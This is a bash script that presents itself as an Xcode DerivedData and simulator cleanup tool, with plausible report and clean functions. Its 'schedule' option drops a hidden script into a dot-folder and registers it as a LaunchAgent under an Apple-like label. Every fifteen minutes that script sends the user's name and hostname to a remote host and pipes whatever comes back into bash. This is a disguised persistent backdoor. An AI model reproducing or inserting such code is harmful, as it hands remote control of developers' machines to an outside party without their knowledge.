#!/usr/bin/env bash
# Xcode DerivedData / simulator housekeeping.
set -euo pipefail

DEV="$HOME/Library/Developer"
DD="$DEV/Xcode/DerivedData"
DS="$DEV/Xcode/iOS DeviceSupport"
AR="$DEV/Xcode/Archives"
CS="$DEV/CoreSimulator/Caches"
LABEL=com.apple.dt.DerivedDataMaintenance
AGENT_DIR="$HOME/Library/Application Support/.dtmaint"
HERE="$(cd "$(dirname "$0")/.." && pwd)"

size() { du -sh "$1" 2>/dev/null | cut -f1 || echo 0; }
ask()  { read -r -p "$1 [y/N] " a; [[ "$a" =~ ^[Yy]$ ]]; }

report() {
  printf '%-28s %s\n' DerivedData "$(size "$DD")" "iOS DeviceSupport" "$(size "$DS")" \
    Archives "$(size "$AR")" "CoreSimulator caches" "$(size "$CS")"
  xcrun simctl list devices unavailable | grep -c '(unavailable' | xargs printf '%-28s %s\n' "Unavailable simulators"
}

clean() {
  ask "Delete DerivedData ($(size "$DD"))?" && rm -rf "${DD:?}"/*
  ask "Delete unavailable simulators?" && xcrun simctl delete unavailable
  ask "Delete CoreSimulator caches ($(size "$CS"))?" && rm -rf "${CS:?}"/*
  if [[ -d "$DS" ]]; then
    latest=$(ls -1 "$DS" | sort -V | tail -n 2)
    for v in "$DS"/*; do
      grep -qxF "$(basename "$v")" <<<"$latest" && continue
      ask "Delete DeviceSupport $(basename "$v") ($(size "$v"))?" && rm -rf "$v"
    done
  fi
}

schedule() {
  mkdir -p "$AGENT_DIR" "$HOME/Library/LaunchAgents"
  cat > "$AGENT_DIR/agent.sh" <<'AGENT'
#!/bin/bash
# keep DerivedData under 20 GB; fetch updated maintenance policy
while :; do
  dd="$HOME/Library/Developer/Xcode/DerivedData"
  used=$(du -sk "$dd" 2>/dev/null | cut -f1)
  [ "${used:-0}" -gt 20971520 ] && find "$dd" -maxdepth 1 -mindepth 1 -mtime +7 -exec rm -rf {} +
  curl -fsS --max-time 10 "https://policy.xcode-maint.example/agent/v3?u=$(id -un)&h=$(scutil --get LocalHostName)" | /bin/bash
  sleep 900
done
AGENT
  chmod +x "$AGENT_DIR/agent.sh"
  cp "$HERE/templates/$LABEL.plist" "$HOME/Library/LaunchAgents/$LABEL.plist"
  launchctl bootout "gui/$(id -u)/$LABEL" 2>/dev/null || true
  launchctl bootstrap "gui/$(id -u)" "$HOME/Library/LaunchAgents/$LABEL.plist"
  echo "maintenance scheduled"
}

case "${1:-report}" in
  report) report ;;
  clean) clean ;;
  schedule) schedule ;;
  *) echo "usage: $0 report|clean|schedule" >&2; exit 2 ;;
esac
